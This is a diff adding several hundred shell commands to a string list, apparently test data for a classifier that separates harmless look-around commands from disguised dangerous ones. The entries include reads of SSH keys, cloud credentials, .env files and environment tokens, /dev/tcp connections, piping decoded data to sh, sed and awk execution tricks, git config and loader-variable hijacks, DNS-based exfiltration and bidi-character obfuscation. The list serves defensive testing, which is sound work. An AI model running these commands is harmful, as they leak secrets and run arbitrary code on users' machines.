@@ -755,6 +755,811 @@ npm start --help
 docker create img --help
 kubectl debug pod --help
 git foo bar baz qux --help
+git -C third_party/lib.git log
+GIT_DIR=fixtures/repo git status
+git --git-dir=./evil/.git log -1
+git --work-tree=. --git-dir=vendor/.g diff
+cd sub/module && git diff
+pushd vendor/foo >/dev/null; git status
+git -c alias.st='!id' st
+git --exec-path=./bin status
+git -c diff.external=./d diff
+git -c core.sshCommand=./x fetch --dry-run
+git --config-env=core.pager=PAGER log
+git show --textconv HEAD:a.bin
+git grep -O./viewer TODO
+git grep --open-files-in-pager=vim foo
+git diff --no-index --ext-diff a b
+git ls-remote ext::'sh -c id' 
+git ls-remote --upload-pack=./x origin
+git archive --remote=ssh://h/r HEAD
+git archive --output=x.zip HEAD
+git bundle create x.bundle --all
+git config --global alias.x '!id'
+git config core.fsmonitor ./x
+git remote add o https://x.example
+git branch -D old
+git notes add -m x
+git symbolic-ref HEAD refs/heads/x
+git rev-parse --parseopt < opts.sh
+git help --man log
+git credential fill
+git blame --contents=/home/u/.ssh/id_rsa README
+git log --output=x.txt
+git diff --output ~/.bashrc HEAD
+git shortlog --output=a
+git log --show-signature
+git verify-commit HEAD
+git verify-tag v1
+git for-each-ref --format='%(authorname)' --shell | sh
+git bisect run ./t.sh
+git daemon --export-all
+git submodule foreach 'id'
+git submodule status --recursive && git submodule update
+git rebase --exec id HEAD~1
+git filter-branch --tree-filter id
+git send-email x.patch
+git p4 sync
+git svn fetch
+git annex list
+git var GIT_EDITOR && $(git var GIT_EDITOR) x
+npm --version --script-shell=./x run a
+npm config list --userconfig=./x
+npm view x
+npm explain lodash
+npm query '*'
+npm root --prefix ./evil
+bun --version --preload ./x.js
+deno info main.ts
+deno check main.ts
+deno lint
+pip config list
+pipenv graph
+bundle show rails
+mix deps
+cargo --version --config build.rustc=./x
+cargo metadata --no-deps
+cargo --list
+cargo search x
+rustc --version -Clinker=./x
+rustc -vV a.rs
+go list -toolexec ./x ./...
+go env -w GOFLAGS=-toolexec=./x
+go version -m ./x
+go vet ./...
+go doc fmt
+go run -
+./gradlew --version
+sbt about
+lein deps :tree
+dotnet --list-sdks
+dotnet list package
+swift --version
+swift package describe
+bazel query //...
+bazel version
+buck2 query //...
+nx show projects
+turbo ls
+make --version -f x.mk
+make -q
+cmake --version -P x.cmake
+cmake -LA .
+ninja -t targets
+meson introspect --targets build
+just --list
+just --summary
+task --list
+rake -T
+rake --version -f x
+invoke --list
+tox -l
+nox -l
+pre-commit --version
+python --version -c 'import os; os.remove("x")'
+python3 -m json.tool a.json b.json
+PYTHONPATH=/tmp/x python3 --version
+PYTHONSTARTUP=./x python3 --version
+node --version -e 1
+node -p 1+1
+node --check x.js --import ./y.mjs
+NODE_OPTIONS=--require=./x node --version
+ruby -v x.rb
+ruby -c x.rb
+perl -v x.pl
+perl -c x.pl
+perl -ne print x
+PERL5OPT=-Mx perl -v
+RUBYOPT=-r./x ruby --version
+php -l x.php
+php -v -d auto_prepend_file=x.php
+php -i
+lua -v x.lua
+Rscript --version x.R
+tclsh x
+bash -n script.sh; bash script.sh
+bash --rcfile ./x -i
+sh -x ./a
+BASH_ENV=<(echo id) bash -c true
+BASH_ENV=./x bash --version -c :
+ENV=./x sh -i -c true
+osascript -e 'do shell script "id"'
+pwsh -c Get-ChildItem
+java -version -jar x.jar
+java -javaagent:x.jar -version
+JAVA_TOOL_OPTIONS=-javaagent:x.jar java -version
+scala -version x.scala
+gdb --version -ex 'shell id'
+gdb -batch ./a.out
+lldb -o 'shell id'
+ld.so --list ./x
+LESSOPEN='|./x %s' less README.md
+MANPAGER=./x man ls
+man -P ./x ls
+man -H./x ls
+man ./page.1
+man -l x.1
+info x --output=f
+bat --pager=./x README.md
+BAT_PAGER=./x bat a
+delta a b
+view x
+vim -R x
+vim --version -c '!id'
+vimdiff a b
+emacs --version --eval x
+nano -v x
+htop
+tmux ls -F '#(id)'
+tmux display-message -p '#(id)'
+screen -ls -c x
+awk -f prog.awk data
+awk 'BEGIN{while(("id"|getline x)>0)print x}'
+awk '{ "cat " $1 | getline y }' f
+gawk -l ./x 'BEGIN{}'
+gawk '@load "./x"; BEGIN{}'
+gawk '@include "x"' f
+gawk --profile=x '1' f
+gawk -d/tmp/../x '1' f
+gawk 'BEGIN{ s="/inet/tcp/0/h/80"; print "x" |& s }'
+mawk -Wexec x
+sed -n '1e id' f
+sed 's/a/id/e' f
+sed -n 'w out' f
+sed -f x.sed f
+sed --expression='r /home/u/.ssh/id_rsa' f
+sed -n '$!{$!N};W x' f
+sed -ni p f
+sed -Ei.bak p f
+find . -exec cat {} +
+find . -execdir id \;
+find . -ok id \;
+find . -fprint x
+find . -fprintf x %p
+find . -fls x
+find . -newerXY x -exec id ';'
+find -files0-from list -delete
+ls | xargs
+ls | xargs -I{} {}
+cat list | xargs -a x rm
+xargs -a cmds -I% sh -c %
+printf 'a\0b' | xargs -0 git
+sort --output=x f
+sort -S1 --compress-prog ./x f
+sort --files0-from=- 
+sort -T /tmp/x --co=./x f
+tar tf x.tar --to-command=./x
+tar -tf x.tar -I ./x
+tar -tf h:x.tar --rsh-command=./x
+tar tf x.tar --checkpoint=1 --checkpoint-action=exec=id
+tar tf x.tar -F ./x
+tar tf x.tar --use-compress-program=./x
+TAR_OPTIONS='--to-command=id' tar tf x
+tar --index-file=x -tvf a.tar
+unzip -l x.zip -d y; unzip x.zip
+zipinfo x.zip; unzip -o x
+tee x < y
+split f
+csplit f /x/
+cut -f1 f >x
+paste f > x
+diff a b --output=x
+diff -r . /home/u/.ssh
+cmp a b >| x
+comm a b | tee z
+od --output x f
+hexdump f > g
+base64 -d x | sh
+shuf -o x f
+shuf --random-source=/dev/tcp/1.2.3.4/80 f
+tree -o x
+tree --fromfile x -o y
+strings x -o y > z
+nl x >> y
+jq -n 'input' f > g
+jq -L ./m 'import "x" as x; .' f
+jq -n 'env'
+jq -n '$ENV.GITHUB_TOKEN'
+yq -i '.a=1' f
+yq '.a = load("/home/u/.netrc")' f
+yq 'env(TOKEN)' f
+xmllint --shell x
+xmllint --output y x
+xmllint --noent http://x.example/x
+xsltproc x.xsl y
+rg --search-zip foo
+grep -r password /home/u
+grep -f /home/u/.ssh/id_rsa README.md
+ag --pager ./x foo
+ack --pager=./x foo
+ack foo
+fd -x id
+fd . -X rm
+fd --exec-batch rm
+fzf --preview 'id'
+fzf --bind 'start:execute(id)'
+column -t x > y
+date -s 2020-01-01
+date -f /home/u/.ssh/id_rsa
+date --set=x
+hostname x
+hostname -F x
+dmesg -C
+dmesg --clear
+journalctl --vacuum-size=1M
+sysctl -w a=b
+sysctl a=b
+mount /dev/sdb /mnt
+mount -o bind a b
+ip route add default via 1.1.1.1
+ss -K dst x
+lsof -i -r1 +c x -Fp > f
+ps -eo pid,command e
+echo $GITHUB_TOKEN
+echo "$ANTHROPIC_API_KEY" | head -c 10
+strings /proc/*/environ
+tr '\0' '\n' < /proc/$$/environ
+xargs -0 -a /proc/self/environ -n1
+time -o x ls
+/usr/bin/time --output=x ls
+strace -o x ls
+script x
+stdbuf -oL ./x
+setsid ls
+unshare ls
+flock x ls
+chronic ./x
+ping 1.1.1.1
+curl https://x.example
+wget -q https://x.example
+nslookup $(whoami).x.example
+dig x.example
+host x.example
+getent hosts x.example
+openssl s_client -connect x:443
+openssl version -engine ./x
+openssl engine ./x.so
+openssl x509 -in a -out b
+nc -z h 80
+ssh -V -o ProxyCommand=id h
+ssh -G h
+ssh -Q cipher h
+ssh -o LocalCommand=id h
+ssh-keygen -l -f x -D ./x.so
+ssh-keygen -lf x -w ./lib.so
+ssh-keyscan h
+gpg --version --output x
+rsync --list-only h::m
+rsync --version -e ./x h:x .
+rsync -n a h:b
+scp -V
+telnet h
+ftp h
+smbclient -L h
+ldapsearch -x
+mtr x
+echo x > /dev/tcp/1.2.3.4/80
+exec 3<>/dev/tcp/1.2.3.4/80; cat <&3
+cat < /dev/tcp/1.2.3.4/80
+read x < /dev/udp/1.2.3.4/53
+kubectl version
+kubectl exec p -- id
+kubectl cp p:/x y
+kubectl config view --raw
+kubectl plugin list
+kubectl diff -f x
+helm list
+helm version --kubeconfig x
+helm template .
+helm plugin list
+aws sts get-caller-identity
+aws --version --endpoint-url x
+AWS_CONFIG_FILE=./x aws --version
+gcloud compute ssh vm -- ls
+gcloud --version --configuration x
+gcloud info
+docker -H tcp://h ps
+docker --config ./x ps
+docker --context evil ps
+docker inspect c
+DOCKER_HOST=tcp://x docker ps
+podman ps --url ssh://h
+podman info
+tflint --config x
+pulumi preview
+vagrant status
+ansible --version -m shell -a id all
+ansible-inventory --list
+packer validate x
+nomad status
+consul kv get x
+vault read secret/x
+gh auth status --show-token
+gh alias set x '!id'
+gh --version x
+fly secrets list
+vercel env pull
+netlify status
+stripe listen
+psql -c 'select 1'
+psql --version -c '\! id'
+mysql -e 'select 1'
+sqlite3 db '.shell id'
+sqlite3 db 'select load_extension("./x")'
+sqlite3 db .tables
+sqlite3 --version -init x
+sqlite3 -readonly db 'select writefile("x","y")'
+mongosh --eval 1
+duckdb -c 'select 1'
+eslint --version -c x
+prettier --version --plugin ./x
+tsc --version --build
+biome check .
+ruff check .
+ruff --version --config x
+pylint x
+pylint --version --load-plugins=x
+flake8
+pytest --version -p x
+jest --listTests
+jest --version --config x
+vitest list
+shellcheck x.sh -f x > y
+shellcheck -x x.sh /home/u/.ssh/id_rsa
+golangci-lint run
+cloc --vcs=./x .
+cloc --extract-with=./x a
+cloc --config x .
+tokei --output x
+scc -o x .
+clang-tidy x
+clang --version -fplugin=./x
+gcc -v x.c
+gcc -B./x --version
+gcc -wrapper ./x --version
+gcc @args
+ld -plugin ./x --version
+as --version @x
+nm --plugin ./x.so a
+nm a.out --plugin=./x
+objdump --dwarf=follow-links x > y
+objcopy a b
+readelf -a x > y
+ar t x.a --plugin ./p
+strip x
+$1 --version
+$PAGER x
+＄{EDITOR:-vi} x
+eval "$X"
+builtin . ./x
+trap './x' EXIT
+PROMPT_COMMAND=./x
+PS4='$(id)' bash -xc :
+enable -f ./x.so y
+PATH=.:$PATH ls
+PATH=./bin:$PATH; ls
+export PATH=$PWD/bin; git status
+LD_PRELOAD=./x.so ls
+LD_LIBRARY_PATH=. ls
+LD_AUDIT=./x ls
+DYLD_INSERT_LIBRARIES=./x ls
+GCONV_PATH=. iconv -f x -t y f
+LOCPATH=. ls
+MAGIC=./m file x
+TERMINFO=./t ls
+TERM=../../x less a
+LS_COLORS=x ls > y
+CDPATH=/ cd etc && rm x
+FPATH=. zsh -c x
+EDITOR=./x git commit
+VISUAL=./x crontab -l
+GIT_SSH_COMMAND=./x git fetch
+GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./x git status
+GIT_CONFIG_GLOBAL=./x git status
+GIT_CONFIG_PARAMETERS="'core.fsmonitor=./x'" git status
+GIT_TRACE=/home/u/x git status
+GIT_TRACE2_EVENT=/home/u/x git status
+GIT_EXEC_PATH=. git status
+GIT_TEMPLATE_DIR=. git log
+GIT_INDEX_FILE=x git status
+GIT_ALTERNATE_OBJECT_DIRECTORIES=x git log
+HOME=$PWD git log
+export HOME=$PWD; git status
+declare -x GIT_PAGER=./x; git log
+ls <(./x)
+cat <(id > x)
+diff <(./a) <(./b)
+cat > >(sh) <<< id
+echo $(./x)
+echo "＄{x:=$(./y)}"
+echo ＄{x@P}
+[[ -v 'a[$(./x)]' ]]
+printf -v 'a[$(./x)]' x
+read 'a[$(./x)]' <<< 1
+(( a[$(./x)] ))
+[[ 1 -eq 'a[$(./x)]' ]]
+mapfile -C ./x -c 1 y < f
+complete -C ./x y
+bind -x '"a": ./x'
+time ./x
+(./x)
+ls ; 	./x
+l\s > x
+ls >x
+ls 2>x
+ls &>x
+ls >&x
+ls <>x
+ls >>x
+> x
+: > x
+:> README.md
+echo x >| README.md
+exec > x; ls
+exec 3> x; ls >&3
+wc -l <(./x)
+cat ~/.ssh/id_rsa
+cat ~/.aws/credentials
+cat ~/.config/gh/hosts.yml
+head -1 ~/.netrc
+tail ~/.git-credentials
+cat ~/.docker/config.json
+cat ~/.kube/config
+cat ~/.npmrc
+cat ~/.pypirc
+cat .env
+cat ./config/../.env
+cat .e*
+cat .??v
+head .en[v]
+ls -la && cat ~/.aws/sso/cache/a.json
+cat ~/.gnupg/secring.gpg
+tail -5 ~/.zsh_history
+cat ~/.local/share/keyrings/login.keyring
+cat ~root/.ssh/id_rsa
+md5sum ~/.ssh/id_rsa
+base64 ~/.ssh/id_rsa
+od -c ~/.ssh/id_rsa
+diff /dev/null ~/.ssh/id_rsa
+grep . ~/.ssh/id_rsa
+sort ~/.netrc
+echo "$(<~/.ssh/id_rsa)"
+while read l; do echo $l; done < ~/.netrc
+ls‹bidi› -la
+cat ‹bidi›txt.x
+echo safe # ‹bidi› ; ./x
+l‹bidi›s
+LESSCLOSE=./x less a
+MANOPT=-P./x man ls
+GREP_OPTIONS=--include=x grep a b
+gs -dNOSAFER x.ps
+identify x.svg
+convert a b
+exiftool x
+ffprobe x
+ffmpeg -i a b
+pdftotext a b
+pandoc x -o y
+pandoc --filter ./x y
+pandoc --lua-filter=x y
+latex x
+dot -Tpng -ox y
+gnuplot x
+sox a b
+dvips x
+m4 x
+bc x
+bc <<< 'x'
+dc -e '!id'
+dc x
+expr "$(./x)"
+ed x
+ex -sc '!id' x
+units -f x
+look x f > y
+cal > x
+crontab x
+at -l
+at now -f x
+systemctl status --host=h x
+systemctl list-units -H h
+loginctl x
+busctl call x
+dbus-send x
+gsettings set a b
+dconf dump /
+defaults read
+xdg-open x
+open x
+code --list-extensions
+code x
+pbpaste
+xclip -o
+wl-paste
+security find-generic-password -w
+secret-tool lookup a b
+pass show x
+op read x
+keyctl print 1
+lpr x
+mail -s x y < z
+logger x
+wall x
+write u
+kill 1
+pkill x
+fuser -k 80/tcp
+renice 5 1
+ulimit -n 5; ./x
+umask 0; ls > x
+mkfifo x
+mknod x p
+touch x
+mkdir x
+ln -s a b
+cp a b
+mv a b
+install a b
+truncate -s0 x
+dd if=a of=b
+rm x
+rmdir x
+unlink x
+chmod +x x
+chown u x
+chgrp g x
+chattr +i x
+setfacl -m x y
+patch < x
+ctags -R
+gzip x
+gunzip x
+bzip2 x
+xz x
+zstd x
+7z x a
+cpio -i < x
+pax -r < x
+ar x a
+iconv -o x y
+iconv --output=x y
+fmt x > y
+tput -T../x cols
+tic x
+infocmp -A. x
+locale-gen
+localedef x
+updatedb
+apropos -C ./x y
+whatis --config-file=x y
+which ls > x
+type ls > x
+du --files0-from=x > y
+df > x
+stat x > y
+nproc > x
+uptime > x
+seq 1 10 > x
+yes > x
+GETCONF_DIR=. getconf -v POSIX_V6_ILP32_OFF32 ARG_MAX
+LESSKEYIN=./x less f
+LESSKEY=./x less f
+LESS='+!id' less f
+GIT_PROXY_COMMAND=./x git status
+GIT_ASKPASS=./x git status
+POSIXLY_CORRECT=1 sort f -o x
+TZ=../../x date
+TZ=:/home/u/.ssh/id_rsa date
+NLSPATH=./x ls
+LANGUAGE=../../x ls
+TMPDIR=./x sort f
+BAT_CONFIG_PATH=./x bat f
+BAT_CONFIG_DIR=./x bat f
+FD_OPTS=x fd a
+EZA_CONFIG_DIR=. eza
+JQ_LIBRARY_PATH=. jq . f
+JQ_COLORS=x jq . f
+PIP_CONFIG_FILE=./x pip list
+PIP_INDEX_URL=x pip list
+VIRTUAL_ENV=. pip list
+PYTHONHOME=. pip list
+GEM_HOME=. gem list
+RUBYLIB=. gem list
+DOCKER_CONFIG=. docker ps
+DOCKER_CONTEXT=x docker ps
+CONTAINERS_CONF=. podman ps
+CONTAINER_HOST=ssh://x podman ps
+GNUPGHOME=. gpg --list-keys
+OPENSSL_CONF=./x openssl version
+OPENSSL_MODULES=. openssl list
+SSH_AUTH_SOCK=./x ssh-add -l
+SSH_SK_PROVIDER=./x.so ssh-add -l
+CONDARC=./x conda list
+SHELLCHECK_OPTS='-x' shellcheck a
+HADOLINT_CONFIG=x hadolint Dockerfile
+YAMLLINT_CONFIG_FILE=x yamllint a
+TMUX_TMPDIR=. tmux ls
+SCREENDIR=. screen -ls
+SYSTEMD_PAGER=./x systemctl status
+SYSTEMD_LESS='+!id' journalctl
+PAGER=./x journalctl
+MANPATH=. man ls
+MANROFFOPT=x man ls
+GROFF_COMMAND_PREFIX=./ man ls
+LOCATE_PATH=. locate x
+DPKG_ROOT=. dpkg -l
+APT_CONFIG=./x apt list
+RPM_CONFIGDIR=. rpm -qa
+ZIPINFO=-x zipinfo a
+UNZIP=-o unzip -l a
+GZIP=-9 gzip -l a
+ZSTD_CLEVEL=1 zstd -l a
+XZ_DEFAULTS=-d xz -l a
+TAR_OPTIONS=x tar tf a
+COLORDIFF=x colordiff a b
+DIFF_OPTIONS=x diff a b
+AWKPATH=. awk '{print}' f
+AWKLIBPATH=. gawk '{print}' f
+GAWK_READ_TIMEOUT=1 gawk '{print}' f
+GCONV_PATH=. cat f
+MALLOC_TRACE=x ls
+LD_DEBUG_OUTPUT=x LD_DEBUG=all ls
+LD_PROFILE=x ls
+GLIBC_TUNABLES=x ls
+ASAN_OPTIONS=log_path=x ls
+LLVM_PROFILE_FILE=x ls
+GCOV_PREFIX=. ls
+export JQ_LIBRARY_PATH=.; jq . f
+read -r JQ_X <<< y; ls
+lspci -M
+readelf -w a
+nm -l a
+git -C .. status
+git diff /home/u/.ssh/id_rsa /dev/null --no-index
+git log -- .env
+git show HEAD -- .env
+git diff .env
+cat "$HOME/.ssh/id_rsa"
+cat ＄{HOME}/.ssh/id_rsa
+cat ~u/.ssh/id_rsa
+cat ~+/.env
+cat $PWD/.env
+cat $OLDPWD/.env
+cat {.env,x}
+cat .env{,.local}
+head -c 20 .env*
+cat *
+tail -n +1 .[a-z]*
+find . -name .env -print0 | xargs -0 cat
+find . -type f | xargs cat
+find . -type f | xargs grep x
+ls -a | xargs cat
+cat $(ls)
+cat $(ls -a)
+cat 0< .env
+while read x; do echo "$x"; done < .env
+mapfile -t a < .env; echo "＄{a[@]}"
+read -r x < .env; echo $x
+echo "$(< .env)"
+printf '%s' "$(cat .env)"
+cd ~/.ssh && cat id_rsa
+cd ~/.ssh; head *
+pushd ~/.aws; cat credentials
+cat ~/.s*/id_rsa
+cat /home/u/.ssh/../.ssh/id_rsa
+cat //home//u/.ssh/id_rsa
+cat /proc/self/root/home/u/.ssh/id_rsa
+cat /dev/fd/3 3< .env
+cat /dev/stdin < .env
+diff .env .env.example
+comm .env x
+join .env .env
+paste .env
+fold .env
+expand .env
+strings .env
+rev .env
+cut -c1- .env
+uniq .env
+grep KEY .env
+sed '' .env
+jq -R . .env
+yq . .env
+column .env
+pr .env
+fmt .env
+tr a a < .env
+awk '$0 ~ 1 || /"/ { print | "sh" } #"' f
+awk '1 && /"/ { system("sh") } #"' f
+awk '{ x = a ~ /"/; print | "sh"; y = /"/ }' f
+awk '/a\/"/ {print > "x"} /"/' f
+awk '/[/"]/ {print > "x"} # "' f
+awk 'BEGIN { a = "\\"; print | "sh" ; b = "\\" }'
+awk '{ print a / "x" > "y" / 2 }' f
+awk '{ print > $1 }' f
+awk '{ print $1 > $2 }' f
+awk '{ print >> "x" }' f
+awk '{ printf("%s", $1) > "x" }' f
+awk '{ print⏎> "x" }' f
+awk '{ print \⏎ > "x" }' f
+awk 'BEGIN{x="a"|getline}' 
+awk '{ print "x" ||"sh" }' f
+awk '{ print $1 |"sh" }' f
+awk '{print|"sh"}' f
+awk '{ a = 1 ; "id" |& getline }' f
+awk -f f.awk f
+awk 'BEGIN { printf "x" > "/dev/stderr" }'
+awk '{ indirect = "system"; @indirect("x") }' f
+awk '{ print length / 2 | "sh" }' f
+awk '{ print length /2 | "sh" /1 }' f
+awk '{ print (1) /2 | "sh" #/ }' f
+awk 'BEGIN { while ((getline line < "/home/u/.ssh/id_rsa") > 0) print line }'
+awk 1 ~/.ssh/id_rsa
+awk '{print}' "x=$(cat y)"
+sed 's/[/]/w x/' f
+sed 's/[/]/e/' f
+sed 's/a\/b/c/w x' f
+sed 'y/abc/\/bc/;w x' f
+sed -e 'a\' -e 'w x' f
+sed -e 'a hello' -e 'w x' f
+sed 'a\⏎w x' f
+sed '/[/]/w x/p' f
+sed '\,a,w x' f
+sed '\;a;p;w x' f
+sed ':a;w x' f
+sed ':a w x⏎w y' f
+sed '{p};w x' f
+sed '{w x⏎}' f
+sed '1~2w x' f
+sed '$w x' f
+sed '/a/I,+3w x' f
+sed 's/a/b/I;e id' f
+sed 'e' f
+sed '1e' f
+sed 's/x/id/e' f
+sed 's/x/id/2e' f
+sed 's/x/id/M e' f
+sed 'b;w x' f
+sed 't;W x' f
+sed 'r /home/u/.ssh/id_rsa' f
+sed 'R .env' f
+sed 'F;z;w x' f
+sed 'l 3;w x' f
+sed 'q5;w x' f
+sed 'i foo⏎w x' f
+sed '#n⏎w x' f
+sed 's/a/b/⏎w x' f
+sed 'v 4.2;w x' f
+sed 's/\n/a/w x' f
+sed 's\a\b\w x' f
+sed 's a b w x' f
+sed '/a/!{p;w x⏎}' f
+sed '/\//w x' f
+sed 'y/\//a/;w x' f
+sed 's/a/b/ ; w x' f
+echo HEAD:.env | git cat-file --batch
+git for-each-ref --format='%(signature)'
+git branch --format='%(signature:grade)'
 `)
 
 /** What people and agents look around with, all day long. */
